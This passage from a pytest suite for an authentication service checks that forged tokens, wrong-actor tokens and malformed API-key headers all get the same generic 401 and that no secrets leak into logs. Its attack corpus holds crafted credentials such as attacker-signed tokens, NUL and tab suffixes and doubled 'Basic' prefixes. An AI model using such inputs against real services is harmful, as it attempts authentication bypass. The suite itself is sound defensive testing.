    forged = send_as(target, case.method, case.path, target.craft(key=target.attacker))
    caplog.clear()
    caplog.set_level(logging.INFO, logger="medusa_auth.security")

    response = send_as(target, case.method, case.path, token)

    assert response.status_code == 401, (case.name, response.status_code, response.get_data()[:300])
    assert response.get_json() == REFUSED
    assert response.get_data() == reference.get_data() == forged.get_data()
    assert dict(response.headers) == dict(reference.headers) == dict(forged.headers)
    events = security_events(caplog)
    assert [e["event"] for e in events] == ["token_refused"], events
    for piece in {token, *token.split(".")} - {""}:
        if len(piece) >= 16:
            assert piece not in caplog.text


CROSS_ACTOR_CONTROLS = [
    # (method, path, token, status past the guard): the right actor's token, built the same way, gets through.
    ("GET", "/store/customers/me", lambda t: t.craft(customer_claims(t)), 404),  # no customer cus_01 here
    ("GET", "/admin/users/me", lambda t: t.craft(), 404),  # no user user_01 here
    ("POST", "/auth/customer/emailpass/update", own_kind(TokenKind.RESET, CUSTOMER_RESET_CLAIMS), 400),  # no password
    ("POST", "/auth/customer/emailpass/update", lambda t: t.craft(customer_claims(t)), 400),  # changing one's own
    ("POST", "/store/customers", lambda t: t.craft(customer_claims(t)), 400),  # Medusa's "already authenticated"
]


@pytest.mark.parametrize(("method", "path", "build", "status"), CROSS_ACTOR_CONTROLS)
def test_control_the_right_actor_type_gets_past_the_guard(make_target, method, path, build, status, caplog):
    target = make_target("RSA")
    caplog.set_level(logging.INFO, logger="medusa_auth.security")
    response = send_as(target, method, path, build(target))
    assert response.status_code == status, response.get_data(as_text=True)
    assert "token_refused" not in caplog.text


# -- API keys (issue 16): every Basic credential that is not a live secret key, the same 401 -----------


@dataclass(frozen=True)
class LiveKeys:
    secret: str
    publishable: str
    revoked: str


def make_keys(target: Target) -> LiveKeys:
    """A live secret key, a live publishable key and a revoked secret key, made by the service itself.

    The tests that call this also take the ``app`` fixture: its teardown empties the test database.
    """
    from medusa_auth.admin import api_key_service

    with target.app.app_context():
        secret = api_key_service.create_key("machine", "secret").token
        publishable = api_key_service.create_key("storefront", "publishable").token
        old = api_key_service.create_key("old", "secret")
        api_key_service.revoke_key(old.api_key.id, None)
    return LiveKeys(secret, publishable, old.token)


def api_key_corpus(keys: LiveKeys, access_token: str) -> dict[str, str]:
    return {
        **api_key_attacks(keys.secret, keys.publishable, keys.revoked),
        "an access token as the Basic user name": "Basic " + base64.b64encode(f"{access_token}:".encode()).decode(),
        "Basic twice": f"Basic Basic {keys.secret}",
        "a NUL after the key": "Basic " + base64.b64encode(f"{keys.secret}\x00:".encode()).decode(),
        "a tab after the key": f"Basic {keys.secret}\t",
    }


API_KEY_CASES = sorted(api_key_corpus(LiveKeys("sk_" + "1" * 64, "pk_" + "2" * 64, "sk_" + "3" * 64), "a.b.c"))


def test_the_api_key_corpus_is_large_enough():
    assert len(API_KEY_CASES) >= 20


@pytest.mark.parametrize("name", API_KEY_CASES)
def test_api_key_attack_is_refused_with_the_generic_401(app, make_target, name: str, caplog: pytest.LogCaptureFixture):
    target = make_target("RSA")
    keys = make_keys(target)
    header = api_key_corpus(keys, target.craft())[name]
    reference = refusal_reference(target)
    caplog.clear()
    caplog.set_level(logging.INFO, logger="medusa_auth.security")

    with target.app.test_client() as client:
        response = client.get(TARGET, headers={"Authorization": header})

    assert response.status_code == 401, (name, response.get_data()[:300])
    assert response.get_data() == reference.get_data()
    assert dict(response.headers) == dict(reference.headers)
    events = security_events(caplog)
    assert [e["event"] for e in events] in (["api_key_refused"], ["token_refused"]), events
    for token in (keys.secret, keys.publishable, keys.revoked):
        assert token[3:] not in caplog.text


def test_control_the_live_secret_key_gets_past_the_guard_in_each_spelling(app, make_target):
    target = make_target("RSA")
    keys = make_keys(target)
    spellings = [
        "Basic " + base64.b64encode(f"{keys.secret}:".encode()).decode(),
        "basic " + base64.b64encode(f"{keys.secret}:".encode()).decode(),
        f"Basic {keys.secret}",
        f"Basic {keys.secret}:",
    ]
    with target.app.test_client() as client:
        for header in spellings:
            assert client.get("/admin/users", headers={"Authorization": header}).status_code == 200, header


def test_a_secret_key_as_a_bearer_or_a_publishable_key_is_refused(app, make_target):
    target = make_target("RSA")
    keys = make_keys(target)
    with target.app.test_client() as client:
        as_bearer = client.get(TARGET, headers={"Authorization": f"Bearer {keys.secret}"})
        assert as_bearer.status_code == 401 and "Basic" in as_bearer.get_json()["message"]
        shopper = {"Authorization": f"Bearer {target.craft(customer_claims(target))}"}
        as_publishable = client.get("/store/customers/me", headers={**shopper, "x-publishable-api-key": keys.secret})
        assert as_publishable.status_code == 400 and as_publishable.get_json()["type"] == "not_allowed"
        control = client.get("/store/customers/me", headers={**shopper, "x-publishable-api-key": keys.publishable})
        assert control.status_code == 404  # past the guard and the key: no customer cus_01 here
